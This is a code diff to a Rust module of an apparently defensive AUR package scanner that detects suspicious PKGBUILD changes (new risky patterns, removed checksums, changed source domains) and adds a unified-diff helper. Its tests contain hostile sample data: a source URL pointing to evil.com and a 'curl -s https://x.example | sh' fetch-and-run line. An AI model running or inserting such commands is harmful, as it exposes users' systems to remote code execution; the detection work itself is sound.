@@ -1,6 +1,6 @@
 use crate::features::Feature;
 use crate::shared::models::PackageContext;
-use crate::shared::patterns;
+use crate::shared::{patterns, source_arrays, trusted_domains};
 use crate::shared::scoring::{Signal, SignalCategory};
 use regex::Regex;
 use std::collections::HashSet;
@@ -9,18 +9,14 @@ use std::sync::LazyLock;
 static CHECKSUM_RE: LazyLock<Regex> =
     LazyLock::new(|| Regex::new(r"(?m)^(md5|sha1|sha224|sha256|sha384|sha512|b2)sums(_[a-z0-9_]+)?=").unwrap());
 
-static SOURCE_RE: LazyLock<Regex> =
-    LazyLock::new(|| Regex::new(r"(?m)^source(_[a-z0-9_]+)?\s*=\s*\(([^)]*)\)").unwrap());
-
-static URL_DOMAIN_RE: LazyLock<Regex> =
-    LazyLock::new(|| Regex::new(r#"https?://([^/\s'"]+)"#).unwrap());
-
 /// Loaded once: high-severity pkgbuild patterns (points >= 60) for diff detection.
-static HIGH_SEVERITY_PATTERNS: LazyLock<Vec<patterns::CompiledPattern>> = LazyLock::new(|| {
-    patterns::load_patterns("pkgbuild_analysis")
-        .into_iter()
-        .filter(|p| p.points >= 60)
-        .collect()
+static HIGH_SEVERITY_PATTERNS: LazyLock<patterns::PatternSet> = LazyLock::new(|| {
+    patterns::PatternSet::new(
+        patterns::load_patterns("pkgbuild_analysis")
+            .into_iter()
+            .filter(|p| p.points >= 60)
+            .collect(),
+    )
 });
 
 pub struct PkgbuildDiffAnalysis;
@@ -46,12 +42,8 @@ impl Feature for PkgbuildDiffAnalysis {
 
 /// Flag high-severity patterns newly introduced in the current version.
 fn check_new_suspicious(new: &str, old: &str, signals: &mut Vec<Signal>) {
-    for pattern in HIGH_SEVERITY_PATTERNS.iter() {
-        if pattern.regex.is_match(new) && !pattern.regex.is_match(old) {
-            let matched_line = new
-                .lines()
-                .find(|line| pattern.regex.is_match(line))
-                .map(|l| l.trim().to_string());
+    for pattern in HIGH_SEVERITY_PATTERNS.matching(new) {
+        if !pattern.is_match(old) {
             signals.push(Signal {
                 id: "T-DIFF-NEW-SUSPICIOUS".to_string(),
                 category: SignalCategory::Temporal,
@@ -61,7 +53,9 @@ fn check_new_suspicious(new: &str, old: &str, signals: &mut Vec<Signal>) {
                     pattern.id, pattern.description
                 ),
                 is_override_gate: false,
-                matched_line,
+                matched_line: pattern.matched_line(new),
+                location: None,
+                emitted_by: String::new(),
             });
             return; // one signal is enough
         }
@@ -81,6 +75,8 @@ fn check_checksum_removed(new: &str, old: &str, signals: &mut Vec<Signal>) {
             description: "Checksum array removed in latest update".to_string(),
             is_override_gate: false,
             matched_line: None,
+            location: None,
+            emitted_by: String::new(),
         });
         return;
     }
@@ -97,6 +93,8 @@ fn check_checksum_removed(new: &str, old: &str, signals: &mut Vec<Signal>) {
                 description: "All checksums changed to SKIP in latest update".to_string(),
                 is_override_gate: false,
                 matched_line: None,
+                location: None,
+                emitted_by: String::new(),
             });
         }
     }
@@ -149,24 +147,21 @@ fn check_source_domain_changed(new: &str, old: &str, signals: &mut Vec<Signal>)
             ),
             is_override_gate: false,
             matched_line: None,
+            location: None,
+            emitted_by: String::new(),
         });
     }
 }
 
-/// Extract domains from source=() arrays.
+/// Extract domains from source=() and source_<arch>=() arrays.
 fn extract_source_domains(content: &str) -> HashSet<String> {
-    let mut domains = HashSet::new();
-    for cap in SOURCE_RE.captures_iter(content) {
-        let array_content = &cap[2];
-        for url_match in URL_DOMAIN_RE.captures_iter(array_content) {
-            let domain = url_match[1].to_lowercase();
-            // Strip common variable-containing prefixes
-            if !domain.contains('$') {
-                domains.insert(domain);
-            }
-        }
-    }
-    domains
+    source_arrays::source_urls(content)
+        .into_iter()
+        .flat_map(|(_, urls)| urls)
+        .filter_map(|url| trusted_domains::url_host(&url))
+        // Hosts built from variables can't be compared
+        .filter(|domain| !domain.contains('$'))
+        .collect()
 }
 
 /// Flag if >50% of lines changed (unusual for a version bump).
@@ -198,10 +193,114 @@ fn check_major_rewrite(new: &str, old: &str, signals: &mut Vec<Signal>) {
             description: format!("{}% of PKGBUILD lines changed (unusual for version bump)", changed_pct),
             is_override_gate: false,
             matched_line: None,
+            location: None,
+            emitted_by: String::new(),
         });
     }
 }
 
+/// Largest LCS table (changed old lines x changed new lines) `unified_diff` builds.
+/// Past it, the changed middle of the file is shown as replaced wholesale.
+const MAX_DIFF_CELLS: usize = 4_000_000;
+
+#[derive(Clone, Copy, PartialEq)]
+enum Edit {
+    Keep,
+    Remove,
+    Add,
+}
+
+/// Unified diff of two PKGBUILD versions: `@@ -a,b +c,d @@` hunk headers followed by
+/// lines prefixed with ' ', '-' or '+', with `context` unchanged lines around each
+/// change. Empty when the files are identical.
+pub fn unified_diff(old: &str, new: &str, context: usize) -> String {
+    let old: Vec<&str> = old.lines().collect();
+    let new: Vec<&str> = new.lines().collect();
+    let edits = line_edits(&old, &new);
+
+    let changes: Vec<usize> = (0..edits.len()).filter(|&i| edits[i].0 != Edit::Keep).collect();
+    let mut out = String::new();
+    let mut k = 0;
+    while k < changes.len() {
+        let start = changes[k].saturating_sub(context);
+        let mut last = changes[k];
+        while k + 1 < changes.len() && changes[k + 1] - last <= 2 * context + 1 {
+            k += 1;
+            last = changes[k];
+        }
+        let end = (last + context).min(edits.len() - 1);
+        k += 1;
+
+        let hunk = &edits[start..=end];
+        // Line numbers before the hunk: everything earlier that exists on each side.
+        let old_before = edits[..start].iter().filter(|e| e.0 != Edit::Add).count();
+        let new_before = edits[..start].iter().filter(|e| e.0 != Edit::Remove).count();
+        let old_count = hunk.iter().filter(|e| e.0 != Edit::Add).count();
+        let new_count = hunk.iter().filter(|e| e.0 != Edit::Remove).count();
+        let old_start = if old_count == 0 { old_before } else { old_before + 1 };
+        let new_start = if new_count == 0 { new_before } else { new_before + 1 };
+        out.push_str(&format!("@@ -{old_start},{old_count} +{new_start},{new_count} @@\n"));
+        for (edit, line) in hunk {
+            let marker = match edit {
+                Edit::Keep => ' ',
+                Edit::Remove => '-',
+                Edit::Add => '+',
+            };
+            out.push(marker);
+            out.push_str(line);
+            out.push('\n');
+        }
+    }
+    out
+}
+
+/// Shortest edit script between two line lists, via the longest common subsequence of
+/// the part between their common prefix and suffix. Removals come before additions.
+fn line_edits<'a>(old: &[&'a str], new: &[&'a str]) -> Vec<(Edit, &'a str)> {
+    let prefix = old.iter().zip(new).take_while(|(a, b)| a == b).count();
+    let suffix = old[prefix..]
+        .iter()
+        .rev()
+        .zip(new[prefix..].iter().rev())
+        .take_while(|(a, b)| a == b)
+        .count();
+    let (a, b) = (&old[prefix..old.len() - suffix], &new[prefix..new.len() - suffix]);
+
+    let mut edits: Vec<(Edit, &str)> = old[..prefix].iter().map(|l| (Edit::Keep, *l)).collect();
+    if a.len().saturating_mul(b.len()) > MAX_DIFF_CELLS {
+        edits.extend(a.iter().map(|l| (Edit::Remove, *l)));
+        edits.extend(b.iter().map(|l| (Edit::Add, *l)));
+    } else {
+        // lcs[i][j]: length of the longest common subsequence of a[i..] and b[j..].
+        let mut lcs = vec![vec![0u32; b.len() + 1]; a.len() + 1];
+        for i in (0..a.len()).rev() {
+            for j in (0..b.len()).rev() {
+                lcs[i][j] = if a[i] == b[j] {
+                    lcs[i + 1][j + 1] + 1
+                } else {
+                    lcs[i + 1][j].max(lcs[i][j + 1])
+                };
+            }
+        }
+        let (mut i, mut j) = (0, 0);
+        while i < a.len() || j < b.len() {
+            if i < a.len() && j < b.len() && a[i] == b[j] {
+                edits.push((Edit::Keep, a[i]));
+                i += 1;
+                j += 1;
+            } else if i < a.len() && (j == b.len() || lcs[i + 1][j] >= lcs[i][j + 1]) {
+                edits.push((Edit::Remove, a[i]));
+                i += 1;
+            } else {
+                edits.push((Edit::Add, b[j]));
+                j += 1;
+            }
+        }
+    }
+    edits.extend(old[old.len() - suffix..].iter().map(|l| (Edit::Keep, *l)));
+    edits
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -222,6 +321,15 @@ mod tests {
             github_stars: None,
             github_not_found: false,
             aur_comments: vec![],
+            artifact: None,
+            github_releases: None,
+            repo_files: Vec::new(),
+            trusted_domains: Vec::new(),
+            protected_names: Vec::new(),
+            sibling_commits: Vec::new(),
+            maintainer_account: None,
+            upstream_build_files: Vec::new(),
+            history_rewrite: None,
         };
         PkgbuildDiffAnalysis
             .analyze(&ctx)
@@ -243,6 +351,15 @@ mod tests {
             github_stars: None,
             github_not_found: false,
             aur_comments: vec![],
+            artifact: None,
+            github_releases: None,
+            repo_files: Vec::new(),
+            trusted_domains: Vec::new(),
+            protected_names: Vec::new(),
+            sibling_commits: Vec::new(),
+            maintainer_account: None,
+            upstream_build_files: Vec::new(),
+            history_rewrite: None,
         };
         assert!(PkgbuildDiffAnalysis.analyze(&ctx).is_empty());
     }
@@ -282,6 +399,13 @@ mod tests {
         assert!(!has(&analyze(new, old), "T-DIFF-SOURCE-DOMAIN-CHANGED"));
     }
 
+    #[test]
+    fn arch_source_domain_changed() {
+        let old = "pkgname=test\nsource_x86_64=('https://github.com/owner/repo/v1-x86_64.tar.gz')";
+        let new = "pkgname=test\nsource_x86_64=('foo.tar.gz::git+https://evil.com/repo.git')";
+        assert!(has(&analyze(new, old), "T-DIFF-SOURCE-DOMAIN-CHANGED"));
+    }
+
     #[test]
     fn major_rewrite_detected() {
         let old = (1..=20).map(|i| format!("line{i}=old")).collect::<Vec<_>>().join("\n");
@@ -297,4 +421,18 @@ mod tests {
         let new = lines.join("\n");
         assert!(!has(&analyze(&new, &old), "T-DIFF-MAJOR-REWRITE"));
     }
+
+    #[test]
+    fn unified_diff_hunks() {
+        let old = (1..=20).map(|i| format!("line{i}")).collect::<Vec<_>>().join("\n");
+        let new = old.replace("line2\n", "line2\ncurl -s https://x.example | sh\n").replace("line18", "line18b");
+        let diff = unified_diff(&old, &new, 2);
+        assert_eq!(
+            diff,
+            "@@ -1,4 +1,5 @@\n line1\n line2\n+curl -s https://x.example | sh\n line3\n line4\n\
+             @@ -16,5 +17,5 @@\n line16\n line17\n-line18\n+line18b\n line19\n line20\n"
+        );
+        assert!(unified_diff(&old, &old, 3).is_empty());
+        assert_eq!(unified_diff("", "a", 3), "@@ -0,0 +1,1 @@\n+a\n");
+    }
 }